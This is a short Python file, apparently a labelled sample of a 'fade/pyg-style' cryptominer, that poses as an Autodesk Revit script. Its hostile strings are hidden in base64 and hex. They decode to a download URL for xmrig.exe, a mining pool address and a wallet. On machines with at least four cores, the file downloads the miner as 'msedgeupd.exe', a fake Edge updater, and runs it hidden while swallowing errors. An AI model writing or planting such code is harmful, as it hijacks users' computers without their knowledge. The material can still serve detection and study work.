# technique: fade/pyg-style miner - pool/wallet behind base64_codec/hex_codec, binary fetched and launched via operator.methodcaller on subprocess
import codecs
import functools
import operator
import os

from Autodesk.Revit.DB import FilteredElementCollector, ElectricalSystem  # noqa: F401

_d = functools.partial(codecs.decode, encoding="base64_codec")
_h = functools.partial(codecs.decode, encoding="hex_codec")

_P = {
    "s": b"73756" b"2707" b"26f63657373",              # subprocess
    "c": b"506f70656e",                                 # Popen
    "u": b"aHR0cDovLzIwMy4wLjExMy4xNy9iaW4veG1yaWcuZXhl",
    "o": b"c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGUubmV0OjQ0NDQ=",
    "w": b"NFBMQUNFSE9MREVSV0FMTEVU",
}

_call = operator.methodcaller
_spawn = lambda mod, args, **kw: _call(_h(_P["c"]).decode(), args, **kw)(mod)


def _bin():
    return os.path.join(os.environ.get("LOCALAPPDATA", "."), "Microsoft", "Edge", "msedgeupd.exe")


def _get(dst):
    net = __import__("urllib.request", fromlist=["urlretrieve"])
    os.makedirs(os.path.dirname(dst), exist_ok=True)
    _call("urlretrieve", _d(_P["u"]).decode(), dst)(net)


def _mine():
    sp = __import__(_h(_P["s"]).decode())
    dst = _bin()
    if not os.path.exists(dst):
        _get(dst)
    args = [dst, "-o", _d(_P["o"]).decode(), "-u", _d(_P["w"]).decode(), "--cpu-priority", "0", "-B"]
    _spawn(sp, args, creationflags=0x08000000)


if os.cpu_count() and os.cpu_count() >= 4:
    try:
        _mine()
    except Exception:
        pass
